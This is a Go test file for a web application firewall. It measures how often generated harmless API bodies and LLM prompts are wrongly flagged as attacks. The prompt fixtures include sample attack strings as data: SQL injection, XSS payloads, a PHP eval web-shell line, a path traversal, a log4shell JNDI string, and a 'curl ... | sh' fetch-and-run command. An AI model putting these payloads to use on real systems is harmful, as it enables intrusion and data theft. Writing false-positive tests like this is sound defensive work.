package waf

import (
	"encoding/json"
	"fmt"
	"maps"
	"math/rand/v2"
	"slices"
	"strconv"
	"sync"
	"testing"

	"golang.org/x/sync/errgroup"
)

// writer makes up what clients of APIs send, the same for each seed.
type writer struct{ *rand.Rand }

func (w writer) one(of []string) string { return of[w.IntN(len(of))] }

var (
	names    = []string{"Ann O'Neill", "Jürgen Groß", "Zoë d'Arcy", "Nguyễn Văn A", "Drop Tables", "José Select", "Mary-Jane Union", "Li Wei", "R. Null", "Svetlana Orlova"}
	cities   = []string{"St. John's", "Val-d'Or", "Köln", "São Paulo", "Coeur d'Alene", "Union City", "Where, Texas", "Reykjavík"}
	comments = []string{
		"Great product, I'd order again & again!", "Please select the blue one; if it isn't there, drop the order.", "It's 5\" wide and 10' long - doesn't fit.",
		"We met at the union (the one from last year) and then ordered by phone.", "Price was < 20 € and > 15 €, so that's fine :-)", "My son's shoes: size 38 or 39? Or 40?",
		"Having used it for a year, I can't complain. Where can I get more?", "The delivery took from Monday to Friday -- not good!", "Update: they've replaced it. Thanks, team!",
		"1 of 3 was broken; 2 or 3 scratches on the others.", "Could you delete my old address from the account? It's no longer valid.", "C'est l'été, j'adore!",
		"See https://example.com/shop?item=7&color=blue#reviews for my review", "Insert the key, turn it left and it's open.", "He said \"never again\" and she said 'why not?'",
		"Call me at +49 (221) 123-456 or mail ann@example.com", "Rated 4/5: good value, but the manual is only in French...", "Table 4 wants the bill; table 5 ordered 2 x soup and 1 x tea",
		"Le colis est arrivé; merci beaucoup!", "Die Lieferung kam um 17:30 Uhr - 'schon' am Freitag.", "Is there a way to sort by name, then by date?", "Please don't ring the bell, the dog's asleep.",
		"Join us on Friday from 9 to 5; lunch's included.", "I had to create a new account, and then update my password twice.", "The values (1, 2, 3) in the table on page 7 are wrong, aren't they?", "Order #1234: 2x A4, 1x A3; no rush.",
		"What's the difference between the 64GB & 128GB versions?", "Show me all orders where I paid more than 100 in May.", "All of them work, except for the left one: it won't start.", "50% off? Really? Then I'd like two, or three!",
		"I'm executing the contract as we've agreed; see section 4.2 (b).", "Grant's the name, like the president.", "It's like new; I'd sell it as is, between 50 and 60 euros.", "The script in act 2 doesn't match the play.",
		"Is null a valid name? Our system says it's not.", "Alert: the alarm went off at 3 a.m.; I've called the office.", "When does the case end? Else I'd drop by at ten.", "Replaced: 1 x filter; cleaned: 2 x fan; next visit: 2027-01-15",
		"Versão nova: ficou ótima! Só falta o modo escuro...", "すばらしい商品です。また買います!", "Tack så mycket - det fungerar nu :)", "Not for me: too loud, too big & too heavy (12,5 kg).",
	}
	sql = []string{
		"SELECT u.name, COUNT(*) FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > 100 GROUP BY u.name ORDER BY 2 DESC LIMIT 10;",
		"DROP TABLE IF EXISTS tmp; CREATE TABLE tmp AS SELECT * FROM information_schema.tables;", "' OR '1'='1' -- is the classic injection",
		"UPDATE accounts SET balance = balance - 10 WHERE id = 1; DELETE FROM sessions WHERE 1=1;", "SELECT * FROM t WHERE a = 1 UNION ALL SELECT NULL, password FROM users--",
		"INSERT INTO t (a, b) VALUES (1, 'x'), (2, 'y') ON CONFLICT DO NOTHING;", "EXEC xp_cmdshell 'dir'; WAITFOR DELAY '0:0:5'",
	}
	code = []string{
		"<script>document.cookie = 'a=' + location.hash</script>", "<img src=x onerror=alert(1)>", "cat /etc/passwd | grep root; rm -rf /tmp/x", "eval(base64_decode($_POST['x']));",
		"os.system('curl http://example.com | sh')", "for (i = 0; i < 10; i++) { console.log(`${i}`); }", "${jndi:ldap://example.com/a} is what log4shell looks like", "../../../../etc/passwd",
	}
	asks = []string{"Explain what this does:", "Why is this slow?", "Is this vulnerable, and how do I fix it?", "Translate into German:", "Rewrite for Postgres:", "Write a unit test for"}
)

// document is a body as shops, trackers and forms send it.
func (w writer) document() any {
	switch w.IntN(5) {
	case 0:
		var items []any
		for range 1 + w.IntN(4) {
			items = append(items, map[string]any{"sku": fmt.Sprintf("AB-%04d/%c", w.IntN(10000), 'A'+rune(w.IntN(26))), "quantity": w.IntN(9) + 1, "price": fmt.Sprintf("%d.%02d", w.IntN(200), w.IntN(100))})
		}
		return map[string]any{"order": map[string]any{"id": w.IntN(1e6), "customer": w.one(names), "items": items, "note": w.one(comments), "ship_to": map[string]any{
			"street": fmt.Sprintf("%d King's Road, Apt. #%d", w.IntN(300), w.IntN(40)), "city": w.one(cities), "zip": fmt.Sprintf("%05d", w.IntN(99999))}}}
	case 1:
		return map[string]any{"name": w.one(names), "email": fmt.Sprintf("user.%d+news@example.com", w.IntN(1e4)), "born": fmt.Sprintf("%d-%02d-%02d", 1950+w.IntN(60), 1+w.IntN(12), 1+w.IntN(28)),
			"active": w.IntN(2) == 0, "tags": []string{w.one(cities), "vip", "a/b"}, "about": w.one(comments) + " " + w.one(comments), "manager": nil}
	case 2:
		return map[string]any{"title": w.one(comments), "body": w.one(comments) + "\n\n" + w.one(comments), "labels": []string{"bug", "p" + strconv.Itoa(w.IntN(4))}, "assignee": w.one(names), "estimate": w.Float64()}
	case 3:
		return map[string]any{"filter": map[string]any{"city": w.one(cities), "min": w.IntN(100), "max": 100 + w.IntN(100)}, "sort": "-created_at", "page": map[string]any{"size": 50, "cursor": fmt.Sprintf("eyJpZCI6%dfQ==", w.IntN(1e6))}}
	}
	var events []any
	for range 3 {
		events = append(events, map[string]any{"type": "page_view", "at": fmt.Sprintf("2026-11-%02dT%02d:%02d:00Z", 1+w.IntN(30), w.IntN(24), w.IntN(60)), "url": fmt.Sprintf("https://example.com/p/%d?ref=mail&utm_source=x", w.IntN(999)),
			"session": fmt.Sprintf("%08x-%04x-4%03x-a%03x-%012x", w.Uint32(), w.IntN(1<<16), w.IntN(1<<12), w.IntN(1<<12), w.Uint64()>>16), "comment": w.one(comments)})
	}
	return events
}

// prompt is a request in the form of one of the model APIs.
func (w writer) prompt() any {
	text := w.one(asks) + "\n```\n" + w.one(slices.Concat(sql, code, comments)) + "\n```\n" + w.one(slices.Concat(sql, comments))
	switch w.IntN(5) {
	case 0:
		return map[string]any{"model": "gpt-4o", "temperature": 0.2, "user": w.one(names), "messages": []any{map[string]any{"role": "system", "content": "You are a careful reviewer of SQL. " + w.one(sql)}, map[string]any{"role": "user", "content": text}}}
	case 1:
		return map[string]any{"model": "claude-sonnet-4-5", "max_tokens": 500, "system": w.one(sql), "messages": []any{map[string]any{"role": "user", "content": []any{map[string]any{"type": "text", "text": text}}}}}
	case 2:
		return map[string]any{"contents": []any{map[string]any{"role": "user", "parts": []any{map[string]any{"text": text}}}}, "generationConfig": map[string]any{"maxOutputTokens": 100}}
	case 3:
		return map[string]any{"model": "text-embedding-3-small", "input": []string{text, w.one(sql), w.one(code)}}
	}
	return map[string]any{"model": "openai/gpt-4o-mini", "prompt": text, "stream": true, "stop": []string{"\n\n", "--"}}
}

// Of 5,000 bodies that mean no harm, half of them prompts with SQL and
// scripts, at most one in 200 is taken for an attack. They are looked at side by
// side; the race detector, which makes each twenty times as long, sees the first
// of them.
func TestHarmlessBodies(t *testing.T) {
	for paranoia, bodies := range map[int]int{1: 5000, 2: 500} { // the second for what it says
		if raceEnabled {
			bodies /= 10
		}
		rules, err := New(Options{Paranoia: paranoia})
		if err != nil {
			t.Fatal(err)
		}
		w, seen := writer{rand.New(rand.NewPCG(29, 1))}, map[string]bool{}
		var mu sync.Mutex
		refused, by := map[string]int{}, map[int]int{} // by kind, and by rule
		var looks errgroup.Group
		looks.SetLimit(4)
		for i := range bodies {
			made, kind := w.document(), "documents"
			if i%2 == 1 {
				made, kind = w.prompt(), "prompts"
			}
			body, err := json.Marshal(made)
			if err != nil {
				t.Fatal(err)
			}
			seen[string(body)] = true
			looks.Go(func() error {
				got, err := rules.Check(harmless(i, body))
				if err != nil || !got.Attack {
					return err
				}
				mu.Lock()
				defer mu.Unlock()
				for _, r := range got.Rules {
					by[r.ID]++
				}
				if refused[kind]++; refused[kind] <= 3 && paranoia == 1 {
					t.Logf("paranoia %d: %v in %s", paranoia, got.Rules, body)
				}
				return nil
			})
		}
		if err := looks.Wait(); err != nil {
			t.Fatal(err)
		}
		t.Logf("paranoia %d: of %d bodies (%d different) these were refused: %v, by the rules %v", paranoia, bodies, len(seen), refused, by)
		if n := refused["documents"] + refused["prompts"]; n*200 > bodies && paranoia == 1 {
			t.Errorf("paranoia %d: %d of %d harmless bodies are refused", paranoia, n, bodies)
		}
	}
}

// harmless is the request that brings a body.
func harmless(i int, body []byte) *Request {
	headers := map[string]string{"Host": "127.0.0.1:8080", "User-Agent": "okhttp/4.12.0", "Accept": "application/json", "Content-Type": "application/json",
		"Authorization": "Bearer sk-abcdef0123456789", "Content-Length": strconv.Itoa(len(body))}
	return &Request{IP: "10.0.0.1", Method: []string{"POST", "PUT", "PATCH"}[i%3], URI: "/v2/things/" + strconv.Itoa(i) + "?expand=items",
		Protocol: "HTTP/1.1", Headers: maps.All(headers), Body: body}
}
